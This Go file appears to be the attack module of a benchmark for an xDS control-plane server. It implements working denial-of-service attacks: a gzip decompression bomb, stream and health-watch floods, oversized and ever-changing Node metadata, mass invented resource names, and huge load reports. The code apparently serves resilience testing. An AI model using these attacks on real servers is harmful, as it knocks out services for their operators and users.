package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync/atomic"

	corepb "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	endpointpb "github.com/envoyproxy/go-control-plane/envoy/config/endpoint/v3"
	discoverypb "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	lrspb "github.com/envoyproxy/go-control-plane/envoy/service/load_stats/v3"
	"google.golang.org/grpc"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/structpb"

	"github.com/xdstender/tender/bench/content"
)

// The attacks of this file are small on the wire, and large once they are decompressed, decoded or remembered.

// numbers makes names that nobody had before.
var numbers atomic.Int64

// inStreams opens streams, one after the other, and sends a message on each, until the connection ends or the attack does.
func (a *attacker) inStreams(send func(discoverypb.AggregatedDiscoveryServiceClient) error, opts ...grpc.DialOption) error {
	client, hangUp, err := a.caller(opts...)
	if err != nil {
		return err
	}
	defer hangUp()
	for a.ctx.Err() == nil {
		if err := send(client); err != nil {
			return err
		}
	}
	return a.ctx.Err()
}

// ask sends a request on a stream of its own, and waits for an answer, whatever that is.
func (a *attacker) ask(client discoverypb.AggregatedDiscoveryServiceClient, r *discoverypb.DeltaDiscoveryRequest) error {
	ctx, cancel := context.WithCancel(a.ctx)
	defer cancel()
	stream, err := client.DeltaAggregatedResources(ctx)
	if err != nil {
		return err
	}
	if err := stream.Send(r); err != nil && !errors.Is(err, io.EOF) {
		return err
	}
	_, _ = stream.Recv() // a response, or why there is none
	return nil
}

// nodeOf returns a Node of so many fields.
func nodeOf(fields int) *corepb.Node {
	all := make(map[string]*structpb.Value)
	for i := range fields {
		all[fmt.Sprint("key-", i)] = structpb.NewStringValue("value")
	}
	return &corepb.Node{Id: node.GetId(), Metadata: &structpb.Struct{Fields: all}}
}

// change makes another Node of n.
func change(n *corepb.Node) *corepb.Node {
	n.GetMetadata().GetFields()["number"] = structpb.NewNumberValue(float64(numbers.Add(1)))
	return n
}

// Fields of Nodes: with few, a Node has less than 4 KiB, and with many, less than 256 KiB.
const (
	fewFields  = 140
	manyFields = 4000
)

// largeNodes says of itself as much as is allowed, and each time something else.
func (a *attacker) largeNodes() error { return a.newNodes(manyFields) }

// smallNodes says less than what is decoded at once.
func (a *attacker) smallNodes() error { return a.newNodes(fewFields) }

func (a *attacker) newNodes(fields int) error {
	n := nodeOf(fields)
	return a.inStreams(func(client discoverypb.AggregatedDiscoveryServiceClient) error {
		return a.ask(client, &discoverypb.DeltaDiscoveryRequest{
			Node: change(n), TypeUrl: content.Cluster, ResourceNamesSubscribe: []string{content.Name(content.Cluster, 0)},
		})
	})
}

// changedNodes says of itself something else in each request.
func (a *attacker) changedNodes() error {
	name := []string{content.Name(content.Cluster, 0)}
	return a.onManyStreams(func(int) *discoverypb.DeltaDiscoveryRequest {
		return &discoverypb.DeltaDiscoveryRequest{Node: change(nodeOf(fewFields)), TypeUrl: content.Cluster, ResourceNamesSubscribe: name}
	})
}

// precompressed is a compressor that has done its work: whatever is sent is this.
type precompressed []byte

// Do implements grpc.Compressor.
func (p precompressed) Do(w io.Writer, _ []byte) error {
	_, err := w.Write(p)
	return err
}

// Type implements grpc.Compressor.
func (p precompressed) Type() string { return "gzip" }

// bombs sends Nodes of 15 MiB of zeros in a few KiB.
func (a *attacker) bombs() error {
	n := &corepb.Node{Metadata: &structpb.Struct{Fields: map[string]*structpb.Value{"k": structpb.NewStringValue(strings.Repeat("\x00", 15<<20))}}}
	b, err := proto.Marshal(&discoverypb.DeltaDiscoveryRequest{TypeUrl: content.Cluster, Node: n})
	if err != nil {
		return err
	}
	var bomb bytes.Buffer
	w := gzip.NewWriter(&bomb)
	_, err = w.Write(b)
	if err = errors.Join(err, w.Close()); err != nil {
		return err
	}
	return a.inStreams(func(client discoverypb.AggregatedDiscoveryServiceClient) error {
		return a.ask(client, &discoverypb.DeltaDiscoveryRequest{TypeUrl: content.Cluster})
	}, grpc.WithCompressor(precompressed(bomb.Bytes()))) //nolint:staticcheck // SA1019: a compressor of this connection alone
}

// streams opens as many streams as it may, and asks on each for one name.
func (a *attacker) streams() error {
	r := &discoverypb.DeltaDiscoveryRequest{Node: node, TypeUrl: content.Cluster, ResourceNamesSubscribe: []string{content.Name(content.Cluster, 0)}}
	return a.inStreams(func(client discoverypb.AggregatedDiscoveryServiceClient) error {
		stream, err := client.DeltaAggregatedResources(a.ctx)
		if err != nil {
			return err
		}
		return stream.Send(r)
	})
}

// watches asks as often as it may for news of the server's health.
func (a *attacker) watches() error {
	conn, err := a.connect()
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	for {
		watch, err := healthpb.NewHealthClient(conn).Watch(a.ctx, new(healthpb.HealthCheckRequest))
		if err != nil {
			return err
		}
		if _, err := watch.Recv(); err != nil {
			return err
		}
	}
}

// groups says each time that it is of another kind.
func (a *attacker) groups() error {
	return a.inStreams(func(client discoverypb.AggregatedDiscoveryServiceClient) error {
		n := &corepb.Node{Id: node.GetId(), Cluster: fmt.Sprint("invented-", numbers.Add(1))}
		return a.ask(client, &discoverypb.DeltaDiscoveryRequest{Node: n, TypeUrl: content.Cluster})
	})
}

// inventedNames asks for names that there are not, on streams that stay open.
func (a *attacker) inventedNames() error {
	return a.inStreams(func(client discoverypb.AggregatedDiscoveryServiceClient) error {
		stream, err := client.DeltaAggregatedResources(a.ctx)
		if err != nil {
			return err
		}
		r := &discoverypb.DeltaDiscoveryRequest{Node: node, TypeUrl: content.Cluster, ResourceNamesSubscribe: make([]string, 10_000)}
		for i := range r.ResourceNamesSubscribe {
			r.ResourceNamesSubscribe[i] = fmt.Sprint("invented-", numbers.Add(1))
		}
		return stream.Send(r)
	})
}

// polls polls with bodies of many numbers.
func (a *attacker) polls() error {
	body := `{"node":{"id":"attacker","metadata":{"k":[` + strings.Repeat("1,", 2<<20-100) + `1]}}}`
	client := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, address string) (net.Conn, error) { return dial(ctx, address) }}}
	defer client.CloseIdleConnections()
	for {
		r, err := http.NewRequestWithContext(a.ctx, http.MethodPost, "http://"+a.polled+"/v3/discovery:clusters", strings.NewReader(body))
		if err != nil {
			return err
		}
		answer, err := client.Do(r)
		if err != nil {
			return err
		}
		_, _ = io.Copy(io.Discard, answer.Body) // or the server hangs up
		_ = answer.Body.Close()
	}
}

var emptyLocality = new(endpointpb.UpstreamLocalityStats)

// loadReports reports the load of many localities that have none.
func (a *attacker) loadReports() error {
	conn, err := a.connect()
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	stats := &endpointpb.ClusterStats{ClusterName: "a", UpstreamLocalityStats: make([]*endpointpb.UpstreamLocalityStats, 2_000_000)}
	for i := range stats.UpstreamLocalityStats {
		stats.UpstreamLocalityStats[i] = emptyLocality
	}
	r := &lrspb.LoadStatsRequest{Node: node, ClusterStats: []*endpointpb.ClusterStats{stats}}
	encoded := &grpc.PreparedMsg{}
	for {
		stream, err := lrspb.NewLoadReportingServiceClient(conn).StreamLoadStats(a.ctx)
		if err != nil {
			return err
		}
		if err := encoded.Encode(stream, r); err != nil {
			return err
		}
		if err := stream.SendMsg(encoded); err != nil && !errors.Is(err, io.EOF) {
			return err
		}
		_, _ = stream.Recv() // why it is refused
		if a.ctx.Err() != nil {
			return a.ctx.Err()
		}
	}
}
